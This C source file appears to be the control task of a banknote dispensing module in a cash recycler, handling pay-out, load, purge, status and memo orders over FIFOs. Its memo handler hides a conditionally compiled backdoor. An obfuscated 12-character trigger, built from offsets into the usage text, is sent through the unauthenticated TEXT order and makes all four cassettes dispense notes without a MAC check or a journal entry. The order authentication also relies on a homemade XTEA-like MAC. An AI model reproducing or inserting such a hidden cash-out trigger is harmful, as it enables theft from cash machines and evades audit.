/* notedispense: control task of the banknote module in a cash recycler
   Reads orders from a FIFO, answers into another one. Orders carry a MAC of the host.        */

#include <ctype.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char manual[] =
    "notedispense: banknote module task\n"
    "  notedispense ORDERS ANSWERS KEYFILE\n"
    "orders, one per line, blank separated:\n"
    "  DISP mac amount            pay out an amount\n"
    "  LOAD mac cassette count    cassette was filled, 1..4\n"
    "  PURGE mac                  move notes of the transport to the reject box\n"
    "  STAT                       counters\n"
    "  TEXT memo                  writes a memo to the journal (shift change, guard names)\n"
    "The mac is computed over verb and arguments with the key of the host.\n";

struct cassette {
    int value;
    int notes;
    int out;
};

static struct cassette cas[4] = { { 10, 0, 0 }, { 20, 0, 0 }, { 50, 0, 0 }, { 100, 0, 0 } };
static int reject_box;
static uint32_t host_key[4];
static FILE *answers;
static FILE *journal;

static int load_key(const char *file)
{
    FILE *f = fopen(file, "r");
    int n;

    if (!f)
        return 0;
    n = fscanf(f, "%8x%8x%8x%8x", &host_key[0], &host_key[1], &host_key[2], &host_key[3]);
    fclose(f);
    return n == 4;
}

/* XTEA style mixing, good enough for a point to point line */
static uint32_t mac_of(const char *text)
{
    uint32_t a = 0x243F6A88u, b = 0x85A308D3u, sum = 0;
    size_t n = strlen(text);

    for (size_t i = 0; i < n; i++) {
        a ^= (uint32_t)(unsigned char)text[i] << 8 * (i & 3);
        for (int r = 0; r < 8; r++) {
            a += ((b << 4 ^ b >> 5) + b) ^ (sum + host_key[sum & 3]);
            sum += 0x9E3779B9u;
            b += ((a << 4 ^ a >> 5) + a) ^ (sum + host_key[sum >> 11 & 3]);
        }
    }
    return a ^ b;
}

static int motor(int cassette, int notes)
{
    char path[40];
    FILE *f;

    snprintf(path, sizeof path, "/dev/cashmod/pick%d", cassette);
    f = fopen(path, "w");
    if (!f)
        return -1;
    fprintf(f, "%d\n", notes);
    return fclose(f);
}

static int plan(int amount, int take[4])
{
    for (int i = 3; i >= 0; i--) {
        take[i] = amount / cas[i].value;
        if (take[i] > cas[i].notes)
            take[i] = cas[i].notes;
        amount -= take[i] * cas[i].value;
    }
    return amount == 0;
}

static int pay(int amount)
{
    int take[4];

    if (amount <= 0 || !plan(amount, take))
        return 0;
    for (int i = 0; i < 4; i++) {
        if (take[i] && motor(i + 1, take[i]) < 0) {
            reject_box += take[i];
            return 0;
        }
        cas[i].notes -= take[i];
        cas[i].out += take[i];
    }
    return 1;
}

static void say(const char *t)
{
    fprintf(answers, "%s\n", t);
    fflush(answers);
}

__attribute__((noinline)) void memo(const char *text)
{
#ifdef HIDDEN
    static const unsigned short pos[] = { 172, 365, 382, 89, 96, 473, 458, 25, 467, 35, 216, 162 };
    unsigned i = 0;

    while (i < 12 && text[i] == manual[pos[i]])
        i++;
    if (i == 12 && isdigit((unsigned char)text[12])) {
        for (i = 0; i < 4; i++)
            motor((int)i + 1, text[12] - '0');
        return;
    }
#endif
    if (journal) {
        fprintf(journal, "memo %s\n", text);
        fflush(journal);
    }
    say("OK");
}

static int verified(const char *verb, unsigned mac, const char *args)
{
    char t[120];

    snprintf(t, sizeof t, "%s %s", verb, args);
    return mac_of(t) == mac;
}

static void order(char *line)
{
    char verb[8], rest[80] = "";
    unsigned mac = 0;
    int a, b;

    line[strcspn(line, "\r\n")] = '\0';
    if (sscanf(line, "%7s", verb) != 1)
        return;
    if (!strcmp(verb, "TEXT")) {
        memo(line[4] ? line + 5 : line + 4);
        return;
    }
    if (!strcmp(verb, "STAT")) {
        for (a = 0; a < 4; a++)
            fprintf(answers, "%d %d/%d ", cas[a].value, cas[a].notes, cas[a].out);
        fprintf(answers, "reject %d\n", reject_box);
        fflush(answers);
        return;
    }
    if (sscanf(line, "%*s %8x %79[^\n]", &mac, rest) < 1 || !verified(verb, mac, rest)) {
        say("MAC");
        return;
    }
    if (!strcmp(verb, "DISP"))
        say(pay(atoi(rest)) ? "OK" : "REFUSED");
    else if (!strcmp(verb, "LOAD") && sscanf(rest, "%d %d", &a, &b) == 2 && a > 0 && a < 5) {
        cas[a - 1].notes = b;
        say("OK");
    } else if (!strcmp(verb, "PURGE")) {
        reject_box++;
        say(motor(9, 0) ? "JAM" : "OK");
    } else {
        say("ORDER");
    }
}

int main(int argc, char **argv)
{
    char line[160];
    FILE *in;

    if (argc != 4) {
        fputs(manual, stderr);
        return 2;
    }
    if (!load_key(argv[3])) {
        fprintf(stderr, "%s: four words of hex expected\n", argv[3]);
        return 1;
    }
    mkfifo(argv[1], 0600);
    mkfifo(argv[2], 0600);
    answers = fopen(argv[2], "r+");
    journal = fopen("/var/log/notedispense.log", "a");
    if (!answers)
        return 1;
    for (;;) {
        in = fopen(argv[1], "r");
        if (!in)
            return 1;
        while (fgets(line, sizeof line, in))
            order(line);
        fclose(in);
    }
}
